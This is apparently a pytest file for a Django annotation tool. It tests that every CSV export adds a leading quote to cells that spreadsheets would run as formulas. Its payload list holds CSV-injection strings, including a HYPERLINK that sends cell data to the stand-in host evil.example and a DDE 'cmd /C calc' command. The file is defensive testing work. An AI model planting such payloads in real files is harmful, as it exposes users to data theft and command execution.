"""CSV cells a spreadsheet would run as formulas are neutralised in every CSV the project writes (the
dataset export through the API, the page, the command and background jobs; release files; the
gradebook): a leading `'` before `=`, `+`, `-`, `@`, tab and carriage return. `raw` keeps the text;
JSONL and Parquet always keep it."""

import csv
import io
import json
import zipfile
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from django.core.management import call_command
from django.test import Client
from rest_framework.test import APIClient

from sources.formats.spreadsheet import spreadsheet_safe
from sources.models import AnnotationStatus
from sources.services.exports import export_stream
from sources.services.releases import release_create

from ..factories import AnnotationFactory, SourceFactory, ThemeFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
]
HARMLESS = ["Energy first.", "'already quoted", "a=b", " =spaced", ""]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", [*HARMLESS, -3, 2.5, None])
def test_other_cells_and_numbers_are_written_as_they_are(value):
    assert spreadsheet_safe(value) == value


@pytest.fixture
def tagged(team):
    """One approved tag per payload, the payload as its note, on passages that themselves start with `=`."""
    source = SourceFactory(
        project=team.project,
        title="=cmd|' /C calc'!A0",
        paragraphs=["=SUM(A1:A9) is a passage."] * len(PAYLOADS),
    )
    theme = ThemeFactory(project=team.project, slug="energy", name="@Energy")
    for passage, note in zip(source.passages.all(), PAYLOADS, strict=True):
        AnnotationFactory(
            passage=passage, theme=theme, author=team.annotator, note=note, status=AnnotationStatus.APPROVED
        )
    return team.project


def csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_neutralised(rows: list[dict]) -> None:
    assert sorted(row["note"] for row in rows) == sorted("'" + p for p in PAYLOADS)
    assert {row["passage_text"] for row in rows} == {"'=SUM(A1:A9) is a passage."}
    assert {row["source_title"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert {row["start"] for row in rows} == {""}


def assert_raw(rows: list[dict]) -> None:
    assert sorted(row["note"] for row in rows) == sorted(PAYLOADS)
    assert {row["passage_text"] for row in rows} == {"=SUM(A1:A9) is a passage."}


def test_the_api_export_neutralises_and_raw_1_keeps_the_text(tagged, team):
    client = APIClient()
    client.force_authenticate(team.instructor)
    safe = client.get("/api/projects/class/export/", {"format": "csv"})
    assert safe.status_code == 200
    assert_neutralised(csv_rows(b"".join(safe.streaming_content)))
    raw = client.get("/api/projects/class/export/", {"format": "csv", "raw": "1"})
    assert_raw(csv_rows(b"".join(raw.streaming_content)))


def test_the_page_download_neutralises_and_raw_1_keeps_the_text(tagged, team):
    client = Client()
    client.force_login(team.annotator)
    safe = client.get("/p/class/export/download/", {"format": "csv"})
    assert_neutralised(csv_rows(b"".join(safe.streaming_content)))
    raw = client.get("/p/class/export/download/", {"format": "csv", "raw": "1"})
    assert_raw(csv_rows(b"".join(raw.streaming_content)))


def test_the_command_neutralises_and_raw_csv_keeps_the_text(tagged, tmp_path):
    call_command(
        "export_dataset", project="class", format="csv", out=tmp_path / "safe.csv", stderr=io.StringIO()
    )
    assert_neutralised(csv_rows((tmp_path / "safe.csv").read_bytes()))
    call_command(
        "export_dataset",
        project="class",
        format="csv",
        raw_csv=True,
        out=tmp_path / "raw.csv",
        stderr=io.StringIO(),
    )
    assert_raw(csv_rows((tmp_path / "raw.csv").read_bytes()))


def test_jsonl_and_parquet_keep_the_text(tagged):
    lines = b"".join(export_stream(project=tagged, format="jsonl").chunks).decode().splitlines()
    notes = [a["note"] for line in lines for a in json.loads(line).get("annotations", [])]
    assert sorted(notes) == sorted(PAYLOADS)
    table = pq.read_table(io.BytesIO(b"".join(export_stream(project=tagged, format="parquet").chunks)))
    assert sorted(table.column("note").to_pylist()) == sorted(PAYLOADS)


def test_a_release_csv_is_neutralised(tagged, team, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    release = release_create(project=tagged, user=team.instructor)
    archive = zipfile.ZipFile(Path(release.file.path))
    [name] = [n for n in archive.namelist() if n.endswith("data/annotations.csv")]
    assert_neutralised(csv_rows(archive.read(name)))


def test_the_gradebook_neutralises_names_criteria_and_feedback_and_raw_1_keeps_them(team, world_session):
    client = APIClient()
    client.force_authenticate(team.instructor)
    session = world_session
    rubric = {"criteria": [{"name": "@Coverage", "max_points": 5}]}
    [criterion] = client.put(f"/api/sessions/{session.pk}/rubric/", rubric, format="json").json()["criteria"]
    graded = client.put(
        f"/api/sessions/{session.pk}/grades/{team.annotator.pk}/",
        {"scores": {str(criterion["id"]): 4}, "feedback": '=HYPERLINK("http://evil.example")'},
        format="json",
    )
    assert graded.status_code == 200, graded.content
    [row] = csv_rows(client.get(f"/api/sessions/{session.pk}/gradebook/").content)
    assert row["feedback"] == '\'=HYPERLINK("http://evil.example")'
    assert "'@Coverage" in row and row["'@Coverage"] == "4.00"
    [row] = csv_rows(client.get(f"/api/sessions/{session.pk}/gradebook/", {"raw": "1"}).content)
    assert row["feedback"] == '=HYPERLINK("http://evil.example")'
    assert row["@Coverage"] == "4.00"


@pytest.fixture
def world_session(team):
    from ..factories import SessionFactory

    session = SessionFactory(project=team.project, name="Week 1")
    session.participants.add(team.annotator)
    return session
